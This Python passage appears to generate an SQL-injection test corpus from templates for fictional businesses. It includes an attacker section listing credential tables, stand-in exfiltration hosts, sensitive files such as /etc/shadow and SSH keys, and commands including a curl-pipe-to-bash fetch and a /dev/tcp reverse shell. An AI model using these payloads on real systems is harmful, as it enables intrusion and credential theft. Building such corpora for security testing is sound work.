  {"a": S("q", ["FDS-25-0712", "FDS-24-0801"], "lot"), "b": S("n", ["14", "3"]), "c": S("q", ["Yannick Le Gall", "Maëlle"]), "d": S("n", ["12.5", "40"])}),
 ("t16_ecto_do_analyze", "DO $job$ BEGIN EXECUTE format('ANALYZE %I.%I', 'saltworks', '{a}'); END $job$",
  {"a": S("d", ["evaporation_pans", "tide_intakes"], "relname")}),
 ("t16_ecto_salinity_days", "SELECT p0.\"pan_no\", d.\"day\", avg(r.\"degree\") AS \"avg_degree\" FROM \"evaporation_pans\" AS p0 CROSS JOIN LATERAL generate_series(date '{a}', date '{a}' + {b}, interval '1 day') AS d(\"day\") LEFT JOIN \"brine_readings\" AS r ON r.\"pan_no\" = p0.\"pan_no\" AND r.\"read_on\" = d.\"day\" GROUP BY p0.\"pan_no\", d.\"day\"",
  {"a": S("q", ["2025-07-01", "2024-08-15"], "date"), "b": S("n", ["6", "13"])}),
 # mosaic workshop -- Laravel whereRaw / orderByRaw / selectRaw with "{$x}"
 ("t16_laravel_tesserae", "select * from \"tesserae\" where \"material\" = $1 and colour_hex ilike '{a}%' order by {b} {c} limit 50",
  {"a": S("q", ["#1f", "#c0a"], "hexpre"), "b": S("col", ["colour_hex", "stock_kg", "\"tesserae\".\"updated_at\""]), "c": S("dir", ["asc", "desc"])}),
 ("t16_laravel_commission_quote", "select \"commissions\".*, (area_m2 * {a}) as quote_eur from \"commissions\" where \"status\" = $1 and \"client_name\" = '{b}'",
  {"a": S("n", ["240", "385.5"]), "b": S("q", ["Hôtel Belle Rive", "St Columba's Church"])}),
 ("t16_laravel_grout_update", "update \"grout_mixes\" set \"pigment\" = '{a}', \"ratio\" = '{b}', \"updated_at\" = $1 where \"id\" = {c}",
  {"a": S("q", ["iron oxide red", "carbon black"]), "b": S("q", ["3:1", "2.5:1"], "ratio"), "c": S("n", ["77", "1024"])}),
 ("t16_laravel_panel_slice", "select panel_id, (tile_grid)[{a}:{b}] as strip from \"panels\" where \"commission_id\" = $1 and \"deleted_at\" is null",
  {"a": S("n", ["1", "5"]), "b": S("n", ["12", "40"])}),
 ("t16_laravel_cutting_hours", "select artisan_id, justify_hours(sum(ended_at - started_at)) as worked from \"cutting_sessions\" where \"started_at\" >= date_trunc('{a}', now()) - interval '{b}' group by artisan_id having sum(ended_at - started_at) > interval '1 hour'",
  {"a": S("q", ["week", "month"], "unit"), "b": S("q", ["7 days", "0"], "interval")}),
 # orienteering club -- Node pg-promise, ${x:raw} / ${x^} beside correctly formatted ${x}
 ("t16_pgp_splits", "SELECT runner_id, control_code, split_s FROM leg_splits WHERE event_id = {a} AND course = 'Blue' ORDER BY {b}",
  {"a": S("n", ["2207", "15"]), "b": S("col", ["split_s", "runner_id, control_code", "split_s DESC NULLS LAST"])}),
 ("t16_pgp_controls", "SELECT control_code, description, ST_X(geom) AS x, ST_Y(geom) AS y FROM controls WHERE event_id = {a} AND control_code IN ({b})",
  {"a": S("n", ["2207", "15"]), "b": S("list", ["31, 47, 112", "150"])}),
 ("t16_pgp_entries_values", "INSERT INTO event_entries(event_id, runner_name, club, si_card) VALUES({a}, '{b}', '{c}', {d}) RETURNING entry_id",
  {"a": S("n", ["2207", "15"]), "b": S("q", ["Åsa Lindqvist", "Tom O'Leary"]), "c": S("q", ["OK Linné", "SYO"]), "d": S("n", ["8012345", "7204511"])}),
 ("t16_pgp_results_window", "SELECT runner_id, course, total_s, percent_rank() OVER win AS pr, total_s - lag(total_s) OVER win AS behind_s FROM results WHERE event_id = {a} AND age_class = '{b}' WINDOW win AS (PARTITION BY course ORDER BY total_s)",
  {"a": S("n", ["2207", "15"]), "b": S("q", ["W45", "M21E"])}),
 ("t16_pgp_listen_channel", "LISTEN \"results_{a}\"",
  {"a": S("qi", ["sprint_2025", "night cup"])}),
 # darkroom photo lab -- Prisma $executeRawUnsafe / $queryRawUnsafe with template strings
 ("t16_prisma_roll_update", "UPDATE \"FilmRoll\" SET \"developer\" = '{a}', \"devTimeSec\" = {b}, \"pushStops\" = {c}, \"updatedAt\" = now() WHERE \"id\" = '{d}'",
  {"a": S("q", ["HC-110 dil. B", "Rodinal 1+50"]), "b": S("n", ["390", "660"]), "c": S("n", ["0", "1"]), "d": S("q", ["clx9k2h7d0001qz", "cm0a1b2c3d4e5f"], "cuid")}),
 ("t16_prisma_print_insert", "INSERT INTO \"PrintOrder\" (\"id\", \"rollId\", \"frame\", \"paper\", \"size\") VALUES ('{a}', '{b}', {c}, '{d}', '8x10')",
  {"a": S("q", ["cm1p9r0x80003ab", "clz5n1w2q0007yz"], "cuid"), "b": S("q", ["clx9k2h7d0001qz", "cm0a1b2c3d4e5f"], "cuid"), "c": S("n", ["12", "36"]),
   "d": S("q", ["Ilford MG FB", "Foma 532 II"])}),
 ("t16_prisma_chem_expiry", "SELECT \"batch\", \"mixedAt\", \"mixedAt\" + ('{a} days')::interval AS \"expiresAt\" FROM \"ChemistryBatch\" WHERE \"chemical\" = '{b}' ORDER BY \"mixedAt\" DESC",
  {"a": S("q", ["30", "180"], "count"), "b": S("q", ["XTOL stock", "Ilfostop"])}),
 ("t16_prisma_scan_meta", "SELECT \"id\", \"meta\" FROM \"Scan\" WHERE \"meta\" @> '{a}'::jsonb ORDER BY \"createdAt\" DESC LIMIT {b}",
  {"a": S("q", ["{\"scanner\": \"V850\"}", "{\"dpi\": 3200, \"icc\": \"sRGB\"}"], "json"), "b": S("n", ["24", "100"])}),
 ("t16_prisma_session_purge", "DELETE FROM \"Session\" AS s USING \"User\" AS u WHERE s.\"userId\" = u.\"id\" AND u.\"email\" = '{a}' RETURNING s.\"id\"",
  {"a": S("q", ["printer@darkroom.example", "a.kovac+lab@example.org"], "email")}),
 # tannery -- Rust, sqlx::query(&format!(...))
 ("t16_sqlx_hides", "SELECT hide_id, species, grade, wet_blue_kg FROM hides WHERE lot_no = '{a}' AND grade = ANY('{{b}}'::text[]) ORDER BY hide_id",
  {"a": S("q", ["TN-0412", "BV-88"], "lot"), "b": S("q", ["A,B", "TR1"], "arr")}),
 ("t16_sqlx_drum_update_from", "UPDATE tanning_drums AS d SET rpm = {a}, float_pct = {b}, operator = '{c}' FROM drum_schedule AS s WHERE s.drum_id = d.drum_id AND s.shift = '{d}' AND s.run_on = current_date",
  {"a": S("n", ["12", "8"]), "b": S("n", ["150", "80"]), "c": S("q", ["Rui", "Dagny"]), "d": S("q", ["night", "early"])}),
 ("t16_sqlx_effluent_cte", "WITH daily AS (SELECT date_trunc('day', measured_at) AS d, avg(cr_mg_l) AS cr FROM effluent_samples WHERE outfall = '{a}' GROUP BY 1) SELECT d, cr, avg(cr) OVER w7 AS cr_7d FROM daily WINDOW w7 AS (ORDER BY d ROWS 6 PRECEDING) ORDER BY d",
  {"a": S("q", ["OF-2 river", "lagoon east"], "", ") SELECT 1")}),
 ("t16_sqlx_recipe_row", "SELECT recipe_id, leather_type, ROW(dye_a, dye_b) = ROW('{a}', '{b}') AS exact_match FROM dye_recipes WHERE leather_type = '{c}'",
  {"a": S("q", ["acid black 210", "oxblood"]), "b": S("q", ["none", "walnut"]), "c": S("q", ["veg-tan shoulder", "chrome-tan kid"])}),
 ("t16_sqlx_reject_temp", "CREATE TEMP TABLE reject_hides AS SELECT h.* FROM hides AS h WHERE h.defects && ARRAY['{a}']::text[] AND h.received_on >= '{b}'",
  {"a": S("q", ["grain crack", "tick bite"]), "b": S("q", ["2025-03-01", "2024-11-11"], "date")}),
 # seaweed harvest co-operative -- data tools: Airflow templated SQL (dag_run.conf), dbt-compiled models, Kafka Connect JDBC sink
 ("t16_airflow_landings_replay", "DELETE FROM staging.kelp_landings WHERE landed_on = '2025-06-14'; INSERT INTO staging.kelp_landings SELECT * FROM raw.kelp_landings WHERE landed_on = '2025-06-14' AND zone = '{a}'",
  {"a": S("q", ["Zone 4 (Kilbrannan)", "north kelp bed"])}),
 ("t16_airflow_partition_rename", "ALTER TABLE kelp_landings_{a} RENAME TO kelp_landings_{a}_archived",
  {"a": S("ident", ["20250614", "2024q4"], "", " RENAME TO kelp_landings_old")}),
 ("t16_dbt_incremental_tmp", "create temporary table \"kelp_yield__dbt_tmp\" as (with src as (select * from \"analytics\".\"raw\".\"kelp_harvest\" where harvested_at > (select coalesce(max(harvested_at), '1900-01-01') from \"analytics\".\"marts\".\"kelp_yield\") and species = '{a}') select species, date_trunc('week', harvested_at) as wk, sum(wet_kg) as wet_kg from src group by 1, 2)",
  {"a": S("q", ["Saccharina latissima", "Alaria esculenta"], "", ") select 1)")}),
 ("t16_kafkaconnect_upsert", "INSERT INTO \"{a}\" (\"lot_id\",\"species\",\"wet_kg\",\"landed_at\") VALUES ($1,$2,$3,$4) ON CONFLICT (\"lot_id\") DO UPDATE SET \"species\"=EXCLUDED.\"species\",\"wet_kg\"=EXCLUDED.\"wet_kg\",\"landed_at\"=EXCLUDED.\"landed_at\"",
  {"a": S("qi", ["seaweed_lots", "kelp.landings.v2"])}),
 ("t16_dbt_accepted_values", "select count(*) as failures from (select species as value_field from \"analytics\".\"marts\".\"kelp_yield\" where species not in ('{a}', 'Alaria esculenta')) dbt_internal_test",
  {"a": S("q", ["Saccharina latissima", "Palmaria palmata"], "", ")) dbt_internal_test")}),
 # mountain rescue team -- the ops console (Python Flask, %-formatted SQL): Debezium signals, pg_partman, logical replication
 ("t16_debezium_signal", "INSERT INTO debezium_signal (id, type, data) VALUES ('{a}', 'execute-snapshot', '{\"data-collections\": [\"public.{b}\"], \"type\": \"incremental\"}')",
  {"a": S("q", ["ad-hoc-7f3a", "3f6c1e2a-9b0d-4c8e-a1f2-6d5e4c3b2a10"], "uuid"), "b": S("q", ["callouts", "casualty_reports"], "jrel")}),
 ("t16_partman_create_parent", "SELECT partman.create_parent(p_parent_table := 'public.{a}', p_control := 'called_out_at', p_interval := '{b}', p_premake := {c})",
  {"a": S("q", ["callouts", "radio_log"], "relname"), "b": S("q", ["1 month", "1 week"], "pinterval"), "c": S("n", ["4", "7"])}),
 ("t16_partman_partition_data", "CALL partman.partition_data_proc('public.{a}', p_batch := {b}, p_wait := 2)",
  {"a": S("q", ["radio_log", "callouts"], "relname"), "b": S("n", ["50", "10"])}),
 ("t16_repl_publication", "CREATE PUBLICATION rescue_{a} FOR TABLE callouts, casualty_reports WITH (publish = '{b}')",
  {"a": S("ident", ["pub", "eu_west"]), "b": S("q", ["insert, update", "insert"], "pubops")}),
 ("t16_repl_slot_peek", "SELECT lsn, xid, data FROM pg_logical_slot_peek_changes('{a}', NULL, {b}, 'include-xids', '0')",
  {"a": S("q", ["rescue_sub_slot", "debezium"], "slot"), "b": S("n", ["100", "1000"])}),
 ("t16_flask_callouts_replay", "SELECT c.callout_id, c.grid_ref, c.called_out_at, t.team_name FROM callouts c JOIN rescue_teams t ON t.team_id = c.team_id WHERE t.team_name = '{a}' AND c.called_out_at >= now() - interval '{b}' ORDER BY c.called_out_at DESC",
  {"a": S("q", ["Keswick MRT", "Glencoe MRT"]), "b": S("q", ["30 days", "1 year"], "interval")}),
 ("t16_flask_refresh_do", "DO $job$ BEGIN EXECUTE format('REFRESH MATERIALIZED VIEW CONCURRENTLY %I', 'callout_stats_' || '{a}'); END $job$",
  {"a": S("d", ["2025", "keswick"], "suffix")}),
 ("t16_flask_team_scope", "BEGIN; SET LOCAL app.current_team = '{a}'; SELECT callout_id, grid_ref FROM callouts WHERE team_id = current_setting('app.current_team')::int; COMMIT",
  {"a": S("q", ["14", "3"], "count")}),
]
# templates that replay a value the application stored earlier (second-order)
SECOND_ORDER = {"t16_gorm_hoop_repairs_replay", "t16_findbysql_cert_export_replay", "t16_airflow_landings_replay", "t16_flask_callouts_replay"}
# columns an attacker adds to the SET list of an UPDATE template
SENSITIVE = {"t16_gorm_recharr_update": ["\"owner_id\"", "\"deleted_at\"", "\"is_reserved\""], "t16_springnative_roster_from": ["role", "is_captain", "dues_paid"],
             "t16_sequel_stones_update": ["\"owner_member_id\"", "\"retired\""], "t16_laravel_grout_update": ["\"approved\"", "\"approved_by\""],
             "t16_prisma_roll_update": ["\"ownerId\"", "\"isPublic\"", "\"role\""], "t16_sqlx_drum_update_from": ["operator_role", "is_supervisor", "locked"]}
TAG = "$job$"
CLOSER = closers(TAG)
segments, edit = corpus_kit.slot_editing(CLOSER)     # the kit's slot editing, with this corpus's closing quotes

# values every slot of a type accepts besides the template's own: the
# skeletons of these benign fills are the template's reference skeletons
CANON = {"q": ["v", "", "O'Shea", "three word value", "2029-12-01", "50%", "don't"], "e": ["v", "", "it's", "C:\\logs\\x", "tab\there", "l1\nl2"],
         "d": ["v", "", "o'clock", "\"x\""], "qi": ["v", "Say \"Hi\"", "has space"], "n": ["5", "0", "-8", "3.25", "4500000", "0.75"],
         "list": ["5", "5, 6", "7,8,9", "1, 2, 3, 4, 5"], "dir": ["ASC", "DESC", "asc", "desc"], "col": [], "ident": []}
ref_skeletons = by_template(partial(corpus_kit.ref_skeletons, canon=CANON))
CLAUSES = ("SELECT", "FROM", "WHERE", "GROUP", "HAVING", "ORDER", "LIMIT", "OFFSET", "FETCH", "SET", "VALUES", "RETURNING", "TO", "INTO", "ON",
           "WINDOW", "USING", "WITH", "NOTIFY", "LISTEN", "CALL", "PUBLICATION", "TABLE", "DO")
COND_CLAUSES = ("WHERE", "HAVING", "ON")


def row_shape(tpl, slot):
    return corpus_kit.slot_row_shape(globals(), tpl, slot)


def set_column(tpl, slot):
    """The column a SET-list slot is assigned to (its text as written), or None."""
    toks = corpus_kit.slot_split(tpl, slot, CLOSER)[2]
    if len(toks) >= 2 and toks[-1] == ("O", "=") and toks[-2][0] in ("W", "Q"):
        pre = corpus_kit.slot_split(tpl, slot, CLOSER)[0]
        m = re.search(r'("[^"]+"|[A-Za-z_]+)\s*=\s*\'?$', pre)
        return m.group(1) if m else None
    return None


@by_template
def slot_info(tpl, slot):
    """What a breakout into this slot has to know (corpus_kit.slot_facts),
    with lead the first word of the statement the slot is in (a template
    may hold several), and besides: whether it sits in a VALUES row (and how
    many values follow it there), in the SET list of an UPDATE (and the
    column it is assigned to), whether a condition can be appended there,
    whether that statement is a query, whether the template replays a
    stored value."""
    info = corpus_kit.slot_facts(tpl, slot, CLOSER, CLAUSES, limit_clauses=("LIMIT", "OFFSET", "FETCH"))
    toks = corpus_kit.slot_split(tpl, slot, CLOSER)[2]
    cut = max([i + 1 for i, t in enumerate(toks) if t[0] == ";"] or [0])
    lead = next((v for k, v in toks[cut:] if k == "W"), "")
    clause = info["clause"]
    sp = tpl[2][slot]
    shape = row_shape(tpl, slot) if clause == "VALUES" and info["closers"] == ")" else None
    in_set = lead == "UPDATE" and clause == "SET"
    info.update({"lead": lead, "in_values": "VALUES" in info["ctx"] or clause == "VALUES", "row": shape, "in_set": in_set,
                 "set_col": set_column(tpl, slot) if in_set else None, "cond_cut": sp[4],
                 "cond_ok": (clause in COND_CLAUSES or (in_set and not info["closers"])) and lead not in ("COMMENT", "NOTIFY", "LISTEN", "SET", "CALL", "DO", "ALTER"),
                 "select": lead in ("SELECT", "WITH"),
                 "dml": lead in ("INSERT", "UPDATE", "DELETE"), "second_order": tpl[0] in SECOND_ORDER,
                 "in_do": lead == "DO", "interval_kw": corpus_kit.slot_split(tpl, slot, CLOSER)[0].rstrip("'").rstrip().upper().endswith("INTERVAL")})
    return info


# ---------------------------------------------------------------- benign input pools
POOLS = {
 "input_apostrophe_names": ["Ciarán O'Driscoll", "D'Arcy Cooperage", "Pa'ani Kealoha", "Nic an tSaoir's rink", "Sant'Agata", "N'Djamena Divers",
   "O'Leary & Daughters", "St Brigid's Lofts", "Martha's Vineyard Oysters", "L'Isle-sur-la-Sorgue", "D'Aguilar Street", "Wai'anae",
   "Port d'Alcúdia", "T'Challa Rollers", "Ó Súilleabháin's pans", "Mo'orea Reef", "Guðrún's darkroom", "Lake O'Hara", "Bras d'Or Lakes",
   "Shi'a Al-Amin", "Jo'burg Jammers", "the cooper's mallet", "Pont-l'Évêque affinage", "Cape d'Aguilar", "Kill Devil Hill's kelp",
   "M'Naghten", "A'Bhuidheanach", "Tāne's Rest"],
 "input_plain": ["stave", "hoop driver", "toast level", "bung hole", "rickhouse", "spat", "grow bag", "lease area", "tumble culture", "jammer",
   "pivot", "blocker", "star pass", "apex jump", "washed rind", "bloomy rind", "cave humidity", "wheel turning", "basket seal", "loft",
   "liberation site", "clock station", "steam still", "hydrosol", "essential oil", "draw weight", "hammer", "button", "sweeping", "nitrox",
   "buoyancy check", "safety stop", "boat dive", "fleur de sel", "salt pan", "brine", "tesserae", "smalti", "grout", "andamento",
   "control flag", "punch card", "map scale", "fixer", "stop bath", "contact sheet", "wet blue", "split hide", "chrome tan", "kelp line",
   "holdfast", "blade length", "callout", "stretcher", "grid reference"],
 "input_numeric_string": ["007", "12.50", "2e5", "-0", "1,250.00", "+44", "0.000", "99999999999999999999", "1_024", "٤٢", "۱۲۳", "0b101",
   "1e-9", "-Infinity", "nan", "3/4", "½", "10⁶", "0o17", "   42", "4.", "00000000"],
 "input_formatted": ["SL-2202/B", "OY-25-0611-A", "NL24-1234567", "GB25N04117", "LV-25-041 (hydrosol)", "TN-0412-β", "FDS-25-0712",
   "NY 12345 67890", "+33 4 90 72 11 00", "#c0ffee", "rgb(192, 0, 168)", "2025-W24", "T-minus 00:05:00", "51°28′38″N 0°00′05″W",
   "NY 2163 0711", "IBAN DE89 3704 0044 0532 0130 00", "VAT FR40303265045", "ISO 6709 +48.52+002.20/", "4×5 in", "f/16 @ 1/125",
   "ISO 400 / 27°", "Ø 62 cm", "225 L hogshead", "v2.10.0-rc.1", "12-14-10 NPK", "pH 7.8 ±0.1", "27.5 ‰", "SI-card 8012345",
   "CMAS ★★", "EAN-13 4006381333931", "A-12/7b", "1:15,000", "21.5 km, 780 m climb"],
 "input_unicode": ["Tronçais", "Ærøskøbing", "Śnieżka", "Γιάννενα", "Тверь", "ಬೆಂಗಳೂರು", "ꦱꦸꦫꦏꦂꦠ", "Guðrún", "İzmir", "Đà Nẵng",
   "Zürich–Genève", "नमक", "塩田", "桶屋", "오이스터", "🦪 oysters", "🥌 draw", "🎞 35mm", "🪴 kelp", "ﬀ ligature", "A\u030a", "n\u0303",
   "\u202eevil\u202c", "ℌ𝔞𝔪𝔪𝔢𝔯", "Ⓡolling", "ǈupčić", "Ōtaki"],
 "input_json_text": ['{"toast": "medium+", "char": 3}', '{"or": "1=1"}', '[{"stone": 3, "colour": "yellow"}]', '{"q": "\' or \'\'=\'"}', 'true',
   '{"sql": "DROP TABLE casks"}', '{"loc": {"lat": 54.6, "lon": -3.1}}', '["\'", "\\"", ";", "--"]', '{"sort": "velocity_ypm", "dir": "desc"}',
   '{"path": "C:\\\\scans\\\\roll_12"}', '{"ratio": [3, 1]}', '{"note": "O\'Brien\'s pan"}', '{}', '[null, 1, "two"]', '"just text"', '-0.5',
   '{"union": "select", "from": "where"}'],
 "input_url_email": ["https://derby.example.org/bouts?season=2025&team=Rose%20City", "mailto:cooper+orders@example.co.uk", "aoife.o'connor@example.ie",
   "https://example.com/search?q=1%27+or+1%3D1", "http://198.51.100.23:8080/api/splits?event=2207", "s3://kelp-landings/raw/2025/06/14.parquet",
   "https://osm.example.org/#map=15/54.6012/-3.1345", "first.last+tag@sub.example.museum", "https://example.org/a'b/c", "postgresql://replica-2:5432/rescue",
   "https://example.net/x?a=--&b=/*", "ftp://scans.example.com/roll_12/frame_36.tif", "tel:+44-17687-72232", "geo:54.6,-3.13"],
 "input_sql_words": ["Select Cooperage", "Union Bay Oysters", "Drop Bear Rollers", "Table Rock Divers", "Insert Tile Studio", "Delete Key Darkroom",
   "Where Eagles Dare MRT", "Order of the Stone", "Grant Park Curling", "Execute Rollers", "Null Hypothesis Lofts", "Like Minded Mosaics",
   "From Here Salt Co.", "Case Study Cheese", "Having Fun Derby", "Update Leather", "Or Akiva", "And Beyond Kelp", "Create Space Tiles",
   "Alter Ego Jammers", "Cast Away Divers", "Begin Again Cooperage", "Commit Hill Lofts", "Rollback Rink", "Values Lavender", "Limit Break Derby",
   "Offset Printing Lab", "Fetch Pond", "Copy Shop Darkroom", "Vacuum Sealed Cheese", "Analyze This Brine", "Join the Club Orienteers",
   "Sleep Easy Lavender", "Exists Street", "Schema Salt", "Index Fossil", "True North Rescue", "Default Settings Kelp", "Cascade Mountain Rescue"],
 "input_punctuation": ["?!", ";;", "--", "\\\\", "#2", "50%", "(see note)", "[x]", "{}", "<=>", "a;b;c", "-- no", "/**/", "*/", "|", "¿?", "…",
   "@", "£12", "a=b", "'", "\"\"", "&&", "::", "$", "%", "_", "3/8\"", "~", "^_^", "`x`", "'''", "±", "#!", "?:", ":=", "->", "@>", "<->"],
 "input_whitespace": ["  padded", "padded  ", "tab\there", "line1\nline2", "\n", "double  space", "    ", "\t\t", "ends\n", "cr\rhere", "\u00a0nbsp",
   "\u2009thin", "\u3000wide", "\u200bzero"],
}
SENTS = ["Re-toasted the heads to medium plus; two staves replaced after the leak test.", "Harvest closed at TB-3 after 42 mm of rain -- reopen when vibrio < 100 cfu/g.",
 "Select the jammer line-up before the second period; the pivot may take the star.", "Union rules: cave staff stop turning wheels at 17:00 sharp.",
 "He said: \"don't clock the bird before the trap closes\".", "Is 62 cm > 58 cm? Only for the large format, re-check the hoop.",
 "Drop the oil batch at the bottling room; labels are printed on the left.", "Sheet 3 booked for the Tuesday Mixed draw (end 6, hammer to red).",
 "Delete the duplicate dive entry once the divemaster confirms the depth.", "We'll start the salt harvest at 05:30, or later if the wind turns.",
 "Brine at 25.8° Bé in pan 14; rake the fleur de sel before noon.", "Note: /* old */ tile codes stay as catalogued in 1998.",
 "Fix for 5 minutes in rapid fixer; wash 20 min; hypo clear optional.", "Drum 2 at 12 rpm, float 150 %; chrome offer after pickling.",
 "Kelp lines re-seeded in zone 4; blade length 1.2 m at harvest.", "Casualty stretchered to the road head by 14:20; helicopter stood down."]
SEARCH_WORDS = ["stave", "hoop", "toast", "oyster", "vibrio", "jammer", "pivot", "rind", "wheel", "loft", "clock", "lavender", "hydrosol",
                "curling", "sheet", "nitrox", "reef", "brine", "tesserae", "grout", "control", "fixer", "hide", "chrome", "kelp", "callout"]


RELNAMES = ["callouts", "casualty_reports", "radio_log", "evaporation_pans", "tide_intakes", "brine_readings", "kelp_landings", "team_rota",
            "vehicle_log", "kit_inspections", "fleur_de_sel_lots", "weather_obs"]


def typed_value(r, knd):
    """(value, family) for a slot read as a value of kind knd."""
    if knd == "lot":
        return r.choice(["SL-%04d" % r.randint(1, 9999), "OY-%02d-%04d-%s" % (r.randint(20, 26), r.randint(101, 1231), r.choice("ABC")),
                         "LV-%02d-%03d" % (r.randint(20, 26), r.randint(1, 400)), "FDS-%02d-%04d" % (r.randint(20, 26), r.randint(601, 930)),
                         "TN-%04d" % r.randint(1, 9999), "BV-%d/%s" % (r.randint(1, 99), r.choice("abc"))]), "input_formatted"
    if knd == "date":
        return rdate(r, 2018, 2028), "input_formatted"
    if knd == "ts":
        return "%s%s%02d:%02d%s" % (rdate(r, 2020, 2027), r.choice([" ", "T"]), r.randint(0, 23), r.choice([0, 10, 20, 30, 40, 50]),
                                    r.choice(["", ":00", "+02", "-05", "Z", ".250+00"])), "input_formatted"
    if knd == "csv":
        return ",".join(r.sample(["TB-3", "TB-4", "HK-1", "lead", "second", "vice", "skip", "Muirhead", "Dodds", "alternate", "KL-7"], r.randint(1, 4))), "input_formatted"
    if knd == "pipe":
        return "|".join(r.sample(["G1", "G2", "G3", "north sluice", "south sluice", "east gate"], r.randint(1, 3))), "input_formatted"
    if knd == "interval":
        return r.choice(["%d %s" % (r.randint(1, 60), r.choice(["days", "hours", "minutes", "weeks", "months"])), "%d:%02d:00" % (r.randint(0, 23), r.randint(0, 59)),
                         "P%dD" % r.randint(1, 30), "%d days %d hours" % (r.randint(1, 9), r.randint(1, 23)), "1 year 2 months", "@ %d mins" % r.randint(5, 90)]), "input_formatted"
    if knd == "pinterval":
        return r.choice(["1 day", "1 week", "1 month", "3 months", "1 year", "%d days" % r.choice([2, 7, 14])]), "input_formatted"
    if knd == "duration":
        return r.choice(["%ds" % r.randint(1, 60), "%dms" % r.choice([250, 500, 1500, 2500]), "%dmin" % r.randint(1, 10), "%d" % r.choice([0, 1000, 30000]),
                         "%d s" % r.randint(2, 20)]), "input_formatted"
    if knd == "like":
        w = r.choice(["comté", "gruyère", "tomme", "reblochon", "stilton", "manchego", "brie"])
        return r.choice(["%%%s%%" % w, "%s%%" % w[:r.randint(2, 5)].capitalize(), "%s_" % w, w]), "input_formatted"
    if knd == "hexpre":
        return "#" + "".join(r.choice("0123456789abcdef") for _ in range(r.randint(1, 6))), "input_formatted"
    if knd == "ratio":
        return r.choice(["%d:%d" % (r.randint(1, 5), r.randint(1, 3)), "%d.%d:1" % (r.randint(1, 4), r.randint(1, 9)), "%d/%d" % (r.randint(1, 4), r.randint(1, 4))]), "input_numeric_string"
    if knd == "count":
        return str(r.choice([r.randint(1, 400), r.randint(1, 30)])), "input_numeric_string"
    if knd == "unit":
        return r.choice(["day", "week", "month", "quarter", "year", "hour"]), "input_plain"
    if knd == "jkey":
        return r.choice(["camphor_pct", "linalool_pct", "linalyl_acetate_pct", "cineole_pct", "terpinen4ol_pct", "ocimene_pct"]), "input_plain"
    if knd == "json":
        k = r.choice(["scanner", "winner", "dpi", "extra_end", "icc", "sheet"])
        v = r.choice(['"V850"', '"Rink %d"' % r.randint(1, 8), str(r.randint(300, 6400)), "true", "false", '"sRGB"', "null", "[1, 2]"])
        return r.choice(['{"%s": %s}' % (k, v), '{"%s":%s}' % (k, v), '{"%s": {"nested": %s}}' % (k, v)]), "input_json_text"
    if knd == "ring":
        return r.choice(["GB%02dN%05d" % (r.randint(20, 26), r.randint(0, 99999)), "NL%02d-%07d" % (r.randint(20, 26), r.randint(0, 9999999)),
                         "BE%02d-%07d" % (r.randint(20, 26), r.randint(0, 9999999)), "IHU-%02d-%06d" % (r.randint(20, 26), r.randint(0, 999999))]), "input_formatted"
    if knd == "cuid":
        return "c" + "".join(r.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(r.choice([14, 24]))), "input_formatted"
    if knd == "email":
        return "%s%s@%s" % (r.choice(["printer", "a.kovac", "LAB", "scan_desk", "Nadia"]), r.choice(["", "+lab", ".ops", "_2"]),
                            r.choice(["darkroom.example", "Example.ORG", "mail.example.net"])), "input_url_email"
    if knd == "arr":
        return ",".join(r.sample(["A", "B", "C", "TR1", "TR2", "split", "\"full grain\""], r.randint(1, 3))), "input_formatted"
    if knd == "uuid":
        return r.choice(["%08x-%04x-4%03x-%04x-%012x" % (r.getrandbits(32), r.getrandbits(16), r.getrandbits(12), 0x8000 | r.getrandbits(14), r.getrandbits(48)),
                         "ad-hoc-%04x" % r.getrandbits(16), "snapshot-%d" % r.randint(1, 999)]), "input_formatted"
    if knd in ("relname", "jrel"):
        return r.choice(RELNAMES), "input_identifier"
    if knd == "slot":
        return r.choice(["rescue_sub_slot", "debezium", "kelp_cdc_slot", "pg_partman_bgw", "airbyte_slot_2"]), "input_identifier"
    if knd == "suffix":
        return r.choice([str(r.randint(2019, 2027)), "q%d" % r.randint(1, 4), r.choice(["keswick", "glencoe", "eu_west", "north", "winter"])]), "input_formatted"
    if knd == "pubops":
        return ", ".join(r.sample(["insert", "update", "delete", "truncate"], r.randint(1, 4))), "input_plain"
    raise KeyError(knd)


# ---------------------------------------------------------------- what an attacker goes after
# (table, login column, secret column, a known login)
LOOT = [("cooperage_users", "login", "pw_hash", "head_cooper"), ("oyster_staff", "email", "password", "manager@oysterfarm.example"),
        ("derby_officials", "derby_name", "pass_bcrypt", "Head NSO"), ("cave_operators", "username", "password_digest", "affineur"),
        ("pigeon_fanciers", "ring_prefix", "pin_hash", "GB25N"), ("distillery_accounts", "login", "secret", "stillmaster"),
        ("curling_members", "email", "encrypted_password", "skip@curling.example"), ("dive_staff", "username", "pw_sha256", "dm_lead"),
        ("saltworks_users", "login", "passwd", "paludier"), ("mosaic_clients", "email", "pw_hash", "studio@mosaic.example"),
        ("orienteering_admins", "username", "api_key", "planner"), ("\"User\"", "email", "\"passwordHash\"", "admin@darkroom.example"),
        ("tannery_operators", "login", "token", "drum1"), ("connection", "conn_id", "password", "postgres_default"),
        ("rescue_volunteers", "callsign", "pass_argon2", "RESCUE-1")]
HOSTS = ["k3x9q.oastify.com", "c0ffee.oast.fun", "x16.collab.example.net", "leak.attacker.example", "dns.exfil.example.org", "in.sink.example.io"]
IPS = ["203.0.113.66", "198.51.100.161", "192.0.2.16", "203.0.113.9"]
FILES = ["/etc/passwd", "/etc/shadow", "/proc/self/cmdline", "/proc/net/tcp", "/var/lib/postgresql/15/main/postgresql.auto.conf", "pg_hba.conf",
         "/etc/hostname", "/root/.ssh/id_rsa", "/opt/airflow/airflow.cfg", "/etc/debezium/application.properties", "/app/.env.production",
         "/var/lib/postgresql/.pgpass", "/run/secrets/db_password", "global/pg_control", "../../../../etc/issue"]
CMDS = ["id", "hostname -f", "cat /etc/os-release", "printenv", "ls -la /var/lib/postgresql", "curl -s http://leak.attacker.example/p.sh | bash",
        "wget -qO /tmp/.x http://in.sink.example.io/x", "dig +short txt k3x9q.oastify.com", "sh -i >& /dev/tcp/203.0.113.66/4444 0>&1",
        "perl -e 'print getpwuid($<)'", "ps aux", "ip addr"]
ROLES = ["postgres", "airflow", "debezium", "replicator", "app_rw", "readonly", "partman_bgw", "kafka_connect"]
SECRET_EXPRS = ["(SELECT string_agg(subname || '=' || subconninfo, ';') FROM pg_subscription)", "current_setting('primary_conninfo', true)",
                "(SELECT password FROM connection WHERE conn_id = 'postgres_default')", "(SELECT extra FROM connection LIMIT 1)",
